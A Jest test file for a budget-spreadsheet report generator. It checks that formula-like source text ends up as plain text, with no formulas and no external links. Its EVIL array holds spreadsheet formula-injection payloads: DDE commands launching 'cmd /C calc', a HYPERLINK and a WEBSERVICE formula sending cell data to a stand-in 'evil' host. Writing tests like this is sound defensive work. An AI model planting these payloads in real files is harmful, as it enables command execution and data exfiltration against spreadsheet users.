/**
 * Nothing injected: text from the sources never becomes a formula or a live link in the generated
 * sheets. Line names, measure names, status texts and owners that look like formulas, DDE commands or
 * hyperlinks are written as the exact text they were, in cells without formulas; the sheets' XML has
 * no <f> holding them and no external hyperlink relationship.
 */
import * as fs from 'fs';
import * as path from 'path';
import { strFromU8, unzipSync } from 'fflate';
import type { LayoutCell } from '../../src/report/layout';
import { XlsxWorkbook } from '../../src/workbook/xlsx/workbook';
import { expectClear, months, pivot, runCli, sheetParts, tempDir, workbookOf } from './helpers';

const EVIL = ['=HYPERLINK("http://evil","x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '=1+1', '=WEBSERVICE("http://evil/?"&A1)', '\t=1+2', '=DDE("cmd";"/C calc";"x")'];
/** As the readers give them back: labels are trimmed (the tab goes), nothing else changes. */
const SHOWN = EVIL.map((t) => t.trim());
/** What identifies each as a formula if it ever were one. */
const TELL = /HYPERLINK|cmd|evil|SUM\(A1\)|1\+1|1\+2|2\+3|WEBSERVICE|DDE/i;

let dir: string;
beforeAll(() => {
  dir = tempDir('followup-inject-');
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

async function evilWorkbook(): Promise<Uint8Array> {
  // amounts that never add up to one another (a line equal to the two above it would be a subtotal)
  const lines = EVIL.map((label, i) => [label, 1000 * (i + 1) + 17 * i * i] as const);
  const budget = pivot('Budsjett', 'Budsjett 2024 (kr)', months(2024, 12), lines.map(([l, m]) => [l, ...Array<number>(12).fill(m)] as const));
  const actual = pivot('Regnskap', 'Regnskap 2024 (kr)', months(2024, 4), lines.map(([l, m]) => [l, ...Array<number>(4).fill(m + 7)] as const));
  const measures: LayoutCell[] = [
    { row: 0, col: 0, value: 'Tiltak (mill. kr)' },
    ...['Tiltak', 'Helårseffekt', 'Effekt 2024', 'Status', 'Ansvarlig'].map((h, c) => ({ row: 2, col: c, value: h })),
  ];
  EVIL.forEach((text, i) => {
    const row = 3 + i;
    measures.push(
      { row, col: 0, value: text },
      { row, col: 1, value: 1 + i, style: { numberFormat: '#,##0.0' } },
      { row, col: 2, value: 0.5 + i, style: { numberFormat: '#,##0.0' } },
      { row, col: 3, value: EVIL[(i + 1) % EVIL.length] },
      { row, col: 4, value: EVIL[(i + 2) % EVIL.length] },
    );
  });
  return workbookOf(budget, actual, { name: 'Tiltak', cells: measures });
}

let out: string;
let generated: string[];
beforeAll(async () => {
  const input = path.join(dir, 'farlig.xlsx');
  fs.writeFileSync(input, await evilWorkbook());
  out = path.join(dir, 'ut.xlsx');
  const r = await runCli('generate', input, '-o', out, '--lang', 'en');
  expectClear(r);
  expect(r.code).toBe(0);
  const wb = XlsxWorkbook.open(new Uint8Array(fs.readFileSync(out)));
  generated = (await wb.listSheets()).filter((s) => s.generated !== null).map((s) => s.name);
});

test('the follow-up, measures, charts, summary, month-by-month and checks sheets were made, and the evil texts are lines and measures', async () => {
  expect(generated.map((n) => n.replace(/ \d{4}-\d{2}$/, '')).sort()).toEqual(['Charts', 'Checks', 'Follow-up', 'Measures', 'Month by month', 'Summary']);
});

test('each text is in the generated sheets exactly as written, in cells without a formula', async () => {
  const wb = XlsxWorkbook.open(new Uint8Array(fs.readFileSync(out)));
  const found = new Map<string, number>();
  for (const name of generated) {
    const g = await wb.readSheet(name);
    g.values.forEach((row, r) =>
      row.forEach((v, c) => {
        if (typeof v !== 'string' || !SHOWN.includes(v)) return;
        found.set(v, (found.get(v) ?? 0) + 1);
        expect({ sheet: name, cell: [g.top + r, g.left + c], formula: g.formulas?.[r]?.[c] ?? null }).toEqual({ sheet: name, cell: [g.top + r, g.left + c], formula: null });
      }),
    );
  }
  // every text, exactly: as a line name (follow-up; its hidden key too when the text is its own key),
  // a measure name, a status and an owner (measures)
  for (const text of SHOWN) expect({ text, atLeast4: (found.get(text) ?? 0) >= 4 }).toEqual({ text, atLeast4: true });
});

test('no formula in the generated sheets holds source text, and no cell is a formula that a text could have become', () => {
  const files = unzipSync(new Uint8Array(fs.readFileSync(out)));
  const parts = sheetParts(files);
  for (const name of generated) {
    const xml = strFromU8(files[parts.get(name) as string]);
    for (const m of xml.matchAll(/<f(?:\s[^>]*)?>([\s\S]*?)<\/f>/g)) expect({ sheet: name, formula: m[1] }).not.toEqual({ sheet: name, formula: expect.stringMatching(TELL) as string });
    // the generated formulas are our own arithmetic over the sheet's cells only
    for (const m of xml.matchAll(/<f(?:\s[^>]*)?>([\s\S]*?)<\/f>/g)) expect(m[1]).toMatch(/^[A-Z0-9$:(),.+\-*/=<>&;" ]*$/);
  }
});

test('no external hyperlink relationship, and every hyperlink points inside the workbook', () => {
  const files = unzipSync(new Uint8Array(fs.readFileSync(out)));
  const parts = sheetParts(files);
  for (const name of generated) {
    const part = parts.get(name) as string;
    const rels = files[part.replace(/([^/]+)$/, '_rels/$1.rels')];
    if (rels) {
      const text = strFromU8(rels);
      expect(text).not.toMatch(/TargetMode="External"/);
      expect(text).not.toMatch(/relationships\/hyperlink"/);
      expect(text).not.toMatch(/evil/);
    }
    const xml = strFromU8(files[part]);
    // internal links only (to the source cells): a location, never a relationship to a target outside
    for (const m of xml.matchAll(/<hyperlink\b[^>]*>/g)) {
      expect(m[0]).not.toMatch(/r:id=/);
      expect(m[0]).toMatch(/\blocation="(?:'(?:[^']|&apos;)+'|[A-Za-z][\w.]*)!\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?"/);
    }
  }
  expect(Object.keys(files).filter((f) => /externalLink/i.test(f))).toEqual([]);
});
